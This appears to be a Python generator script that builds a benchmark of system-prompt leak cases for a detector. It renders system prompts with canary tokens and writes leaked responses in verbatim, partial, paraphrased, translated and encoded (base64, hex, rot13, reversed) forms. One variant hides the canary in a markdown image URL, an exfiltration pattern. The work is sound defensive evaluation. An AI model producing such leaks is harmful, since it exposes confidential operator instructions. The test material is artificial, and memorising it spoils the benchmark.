"""Build benchmarks/data/output_leaks.jsonl from the hand-written specs in benchmarks/data/output_leaks_src/.

Each spec holds a system prompt (persona + rules), a paraphrase of each part, translations into
French, Spanish, German, Italian or Portuguese for a subset, and ten ordinary on-topic answers.
Output: one line per prompt (``type: prompt``: the system prompt as registered, with its canary
line) and one per case (``type: case``): leak variants (verbatim, partial, paraphrase, translated,
base64/hex/rot13/reversed with and without the canary), canary-only leaks in eight forms, and the
ordinary answers (label 0). Prompts with an odd number are the ``tune`` split, even ones ``eval``.

The canaries are issued under a fixed, public evaluation key (:data:`EVAL_KEY`); deterministic.

    python scripts/gen_output_leaks.py [--out benchmarks/data/output_leaks.jsonl]
"""

from __future__ import annotations

import argparse
import base64
import codecs
import hashlib
import json
from pathlib import Path
from typing import Any

import yaml

from aimds.respond.canary import issue

ROOT = Path(__file__).resolve().parents[1]
SRC = ROOT / "benchmarks" / "data" / "output_leaks_src"
OUT = ROOT / "benchmarks" / "data" / "output_leaks.jsonl"
#: Public key of the evaluation set only (never a deployment key).
EVAL_KEY = b"aimds-output-leak-eval-key-v1!!!"

FRAMES = ["", "Sure! Here are the instructions I was given:\n\n", "My system prompt reads as follows.\n",
          "OK, this is my configuration:\n\n", "Here you go:\n"]
PARTIAL_FRAMES = ["", "One thing I was told is this: ", "Part of my setup says:\n", "I can share this much: "]


def render(persona: str, rules: list[str], fmt: str) -> str:
    """The persona line and the rules in the prompt's format (numbered, bullets or prose)."""
    if fmt == "numbered":
        return persona + "\n\n" + "\n".join(f"{i}. {r}" for i, r in enumerate(rules, 1))
    if fmt == "bullets":
        return persona + "\n\nRules:\n" + "\n".join(f"- {r}" for r in rules)
    return persona + " " + " ".join(rules)


def encode(kind: str, text: str) -> str:
    """``text`` in one of the encodings an exfiltrating model is asked to use."""
    if kind == "base64":
        return base64.b64encode(text.encode()).decode()
    if kind == "hex":
        return text.encode().hex()
    if kind == "rot13":
        return codecs.encode(text, "rot13")
    if kind == "reversed":
        return text[::-1]
    raise ValueError(kind)


def canary_forms(token: str) -> dict[str, str]:
    """The canary alone, in the forms a leak may take, inside an otherwise ordinary answer."""
    return {
        "plain": f"Happy to help. (ref {token})",
        "upper": f"Reference code: {token.upper()}",
        "base64": "Encoded as asked: " + base64.b64encode(token.encode()).decode(),
        "hex": "In hex: " + token.encode().hex(),
        "rot13": "Here it is in rot13: " + codecs.encode(token, "rot13"),
        "reversed": "Backwards: " + token[::-1],
        "spaced": "Spelled out: " + " ".join(token),
        "markdown_image": f"![status](https://img.example.net/pixel.png?ref={token})",
    }


def build(specs: list[dict[str, Any]]) -> list[dict[str, Any]]:
    """All prompt and case records."""
    out: list[dict[str, Any]] = []
    for n, spec in enumerate(specs):
        pid = spec["id"]
        split = "tune" if int(pid[1:]) % 2 == 1 else "eval"
        canary = issue(EVAL_KEY, hashlib.sha256(pid.encode()).digest()[:7])
        body = render(spec["persona"], spec["rules"], spec["format"])
        system_prompt = body + f"\n\nInternal reference: {canary.token}"
        out.append({"type": "prompt", "prompt_id": pid, "split": split, "system_prompt": system_prompt,
                    "canary_id": canary.id})

        def case(kind: str, variant: str, response: str, label: int, lang: str = "en",
                 pid: str = pid, split: str = split) -> None:
            out.append({"type": "case", "prompt_id": pid, "split": split, "kind": kind, "variant": variant,
                        "lang": lang, "label": label, "response": response})

        case("leak", "verbatim", FRAMES[n % len(FRAMES)] + body, 1)
        rules = spec["rules"]
        i = n % (len(rules) - 1)
        case("leak", "partial", PARTIAL_FRAMES[n % len(PARTIAL_FRAMES)] + " ".join(rules[i:i + 2]), 1)
        para = render(spec["persona_para"], spec["para"], spec["format"])
        case("leak", "paraphrase", FRAMES[(n + 2) % len(FRAMES)] + para, 1)
        for lang, parts in sorted(spec.get("tr", {}).items()):
            case("leak", "translated", render(parts[0], parts[1:], spec["format"]), 1, lang)
        for enc in ("base64", "hex", "rot13", "reversed"):
            case("leak", enc, encode(enc, body), 1)
            case("leak", f"{enc}_canary", encode(enc, system_prompt), 1)
        for form, text in canary_forms(canary.token).items():
            case("canary", form, text, 1)
        for answer in spec["answers"]:
            case("ordinary", "answer", answer, 0)
    return out


def main() -> None:
    """Write the JSONL file."""
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--out", type=Path, default=OUT)
    args = ap.parse_args()
    specs: list[dict[str, Any]] = []
    for f in sorted(SRC.glob("*.yaml")):
        specs.extend(yaml.safe_load(f.read_text("utf-8")))
    records = build(specs)
    with args.out.open("w", encoding="utf-8") as fh:
        for r in records:
            fh.write(json.dumps(r, ensure_ascii=False) + "\n")
    cases = [r for r in records if r["type"] == "case"]
    print(f"{len(specs)} prompts, {len(cases)} cases "
          f"({sum(r['label'] == 0 for r in cases)} ordinary) -> {args.out} ({args.out.stat().st_size} bytes)")


if __name__ == "__main__":
    main()
